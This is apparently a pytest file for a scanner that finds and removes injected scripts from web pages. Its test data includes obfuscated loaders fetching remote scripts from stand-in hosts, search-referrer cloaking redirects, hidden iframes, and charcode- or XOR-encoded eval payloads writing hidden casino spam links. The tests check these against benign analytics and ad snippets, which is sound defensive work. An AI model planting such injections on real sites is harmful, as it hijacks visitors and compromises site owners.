"""Scripts that hide the names of what they call, or write a frame that nobody sees; beside what honest scripts do."""

from __future__ import annotations

import pytest

from tests.signs.cases import restores, silent


@pytest.mark.parametrize(
    ("rule", "script"),
    [
        (
            "disguised-loader",
            (
                '<script>window["\\x64\\x6f\\x63\\x75\\x6d\\x65\\x6e\\x74"]["\\x77\\x72\\x69\\x74\\x65"](\'<scr\'+'
                "'ipt src"
                "=\"https://js.example.net/tj.js\"></scr'+'ipt>');</script>\n"
            ),
        ),
        (
            "disguised-loader",
            (
                '<script type="text/javascript">window["\\u0064\\u006f\\u0063\\u0075\\u006d\\u0065\\u006e\\u0074"]['
                '"\\u0077\\u0072\\u0069\\u0074\\u0065\\u006c\\u006e"]("<script src=\'//js.example.net/a.js\'></scr"+'
                '"ipt>")</script>\n'
            ),
        ),
        (
            "disguised-loader",
            (
                '<script>var _0x1=["\\x77\\x72\\x69\\x74\\x65","<scr","ipt src=https://js.example.net/c.js></scr'
                '","ipt>"];document[_0x1[0]](_0x1[1]+_0x1[2]+_0x1[3]);</script>\n'
            ),
        ),
        (
            "disguised-loader",
            (
                '<script>var d=document,s=d["\\x63\\x72\\x65\\x61\\x74\\x65\\x45\\x6c\\x65\\x6d\\x65\\x6e\\x74"]('
                '"script'
                '");s["\\x73\\x72\\x63"]="https://js.example.net/c.js";d.head.appendChild(s);</script>\n'
            ),
        ),
        (
            "disguised-loader",
            (
                '<script>window[["d","o","c","u","m","e","n","t"].join("")]["wri"+"te"]("<scr"+"ipt src=\'ht'
                'tps://js.example.net/x.js\'></scr"+"ipt>")</script>\n'
            ),
        ),
        (
            "search-redirect",
            (
                '<script>if(!/baidu|sogou|360/i.test(navigator.userAgent)){location["\\x68\\x72\\x65\\x66"]="ht'
                'tps://go.example.net/"}</script>\n'
            ),
        ),
        (
            "search-redirect",
            (
                '<script>if(/google|bing/.test(document["ref"+"errer"])){window.location.replace("https://g'
                'o.example.net/x")}</script>\n'
            ),
        ),
        (
            "search-frame",
            (
                '<script>if(document.referrer.indexOf("baidu")>0){document.write(\'<iframe src="https://go.e'
                'xample.net/m" width="100%" height="100%" frameborder="0"></iframe>\')}</script>\n'
            ),
        ),
        (
            "search-redirect",
            (
                '<script>var ref=document.referrer;var e=["google.","bing.","yahoo."];for(var i in e){if(re'
                'f.indexOf(e[i])!=-1){window.location.href="https://go.example.net/?k="+encodeURIComponent('
                "document.title)}}</script>\n"
            ),
        ),
        (
            "written-frame",
            (
                '<script>document.write(\'<iframe src="https://go.example.net/m" width="0" height="0" frameb'
                'order="0"></iframe>\')</script>\n'
            ),
        ),
    ],
)
def test_a_script_that_hides_what_it_calls_is_cut(rule: str, script: str) -> None:
    restores(body=script, rule=rule)
    restores(head=script, rule=rule)


@pytest.mark.parametrize(
    "script",
    [
        (
            '<script>document.write(unescape("%3Cscript src=\'" + (document.location.protocol=="https:"?'
            '"https://ssl":"http://www") + ".stats.example.com/ga.js\' type=\'text/javascript\'%3E%3C/scri'
            'pt%3E"));</script>\n'
        ),
        (
            "<script>(function(i,s,o,g,r,a,m){i['StatsObject']=r;i[r]=i[r]||function(){(i[r].q=i[r].q||"
            "[]).push(arguments)},i[r].l=1*new Date();a=s.createElement(o),m=s.getElementsByTagName(o)["
            "0];a.async=1;a.src=g;m.parentNode.insertBefore(a,m)})(window,document,'script','https://st"
            "ats.example.com/a.js','st');</script>\n"
        ),
        (
            '<script>var _hmt=_hmt||[];(function(){var hm=document.createElement("script");hm.src="http'
            's://hm.example.com/hm.js?0123456789abcdef";var s=document.getElementsByTagName("script")[0'
            "];s.parentNode.insertBefore(hm,s);})();</script>\n"
        ),
        ("<script>document.write('<scr'+'ipt src=\"https://ads.example.com/show.js\"></scr'+'ipt>');</script>\n"),
        (
            '<script>var axel=Math.random()+"";var a=axel*10000000000000;document.write(\'<iframe src="h'
            'ttps://123.fls.example.net/activityi;src=123;type=x;cat=y;ord=1;num=\'+a+\'?" width="1" heig'
            'ht="1" frameborder="0" style="display:none"></iframe>\');</script>\n'
        ),
        ('<script>document.write(\'<iframe src="/silent.html" width="0" height="0"></iframe>\')</script>\n'),
        (
            '<script>document.write(\'<iframe id="ad1" src="https://ads.example.com/f" width="0" height='
            '"0"></iframe>\')</script>\n'
        ),
        (
            '<script>if(document.referrer.indexOf("google")>-1){document.getElementById("hint").innerHT'
            'ML="<p>Welcome, visitor from a search.</p>"}</script>\n'
        ),
        (
            '<script>if(/bot|crawl/i.test(navigator.userAgent)===false){var s=document.createElement("s'
            'cript");s.src="https://chat.example.com/w.js";document.body.appendChild(s)}</script>\n'
        ),
        (
            '<script>var t={};t["on"+"load"]=function(){};window["add"+"Event"]("x");element["class"+"N'
            'ame"]="on";</script>\n'
        ),
        (
            '<script>if(navigator.userAgent.match(/Android/i)){window.location="https://play.example.co'
            'm/store/apps/details?id=org.example"}</script>\n'
        ),
        '<script>var p="\\u0412\\u0432\\u0435\\u0434\\u0438\\u0442\\u0435";document.title=p;</script>\n',
        (
            '<script>window["\\x5f\\x63\\x66\\x67"]={"\\x61\\x70\\x69":"\\x68\\x74\\x74\\x70\\x73\\x3a\\x2f\\x2f\\x61\\x'
            '70\\x69.example.com/v1"};</script>\n'
        ),
        (
            '<script>fetch("https://api.example.com/weather").then(r=>r.json()).then(d=>{document.getEl'
            'ementById("w").textContent=d.temp})</script>\n'
        ),
        ('<script>var m=document["create"+"Element"]("meta");m.name="theme";document.head.appendChild(m);</script>\n'),
        (
            '<div id="w" style="display:none"></div><script>$.getJSON("/api/w",function(d){$("#w").html'
            "(d.text).show()})</script>\n"
        ),
        (
            '<script>var lang=navigator.language;if(lang.indexOf("de")==0)location.href="https://de.exa'
            'mple.org/";</script>\n'
        ),
        (
            '<script>if(document.referrer.indexOf("google.")>-1){document.cookie="src=search"; ga(\'set\''
            ",'referrer',document.referrer);}</script>\n"
        ),
    ],
)
def test_statistics_advertisements_and_redirects_of_honest_pages_stay(script: str) -> None:
    silent(body=script)
    silent(head=script)


def _coded(text: str, key: int = 0) -> str:
    return ",".join(str(ord(letter) ^ key) for letter in text)


LINKS = (
    '<div style="display:none"><a href="https://a.luckyspin.example.net/">online casino</a> '
    '<a href="https://b.luckyspin.example.net/">slot gacor</a></div>'
)


@pytest.mark.parametrize(
    "script",
    [
        f"var c=String['fromCharCode'];document['write'](c({_coded(LINKS)}));",
        (
            f"var k=37,m=[{_coded(LINKS, 37)}],o='';for(var i=0;i<m.length;i++){{o+=String['fromCharCode'](m[i]^k)}}"
            "document['wri'+'te'](o);"
        ),
        (
            f"var q=[{_coded('document.write(' + repr(LINKS) + ')')}],z='';for(var i in q)z+=String.fromCharCode(q[i]);"
            "(0,eval)(z);"
        ),
        f"(0,window['ev'+'al'])(String.fromCharCode({_coded('document.write(' + repr(LINKS) + ')')}));",
    ],
)
def test_numbers_are_read_by_whatever_name_they_are_made_letters(script: str) -> None:
    restores(body=f"<script>{script}</script>\n", rule="written-links")


def test_a_word_for_the_name_of_a_frame_is_read() -> None:
    frame = '<iframe id="f1" name="online casino bonus" src="https://m.example.net/in"></iframe>\n'
    restores(body=frame, rule="foreign-frame")


def test_a_frame_over_the_page_with_an_id_goes_if_its_words_tell() -> None:
    style = "position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647"
    frame = f'<iframe id="cvr" title="%s" src="https://m.example.net/in" style="{style}"></iframe>\n'
    restores(body=frame % "online casino bonus", rule="foreign-frame")
    silent(body=frame % "Our player")
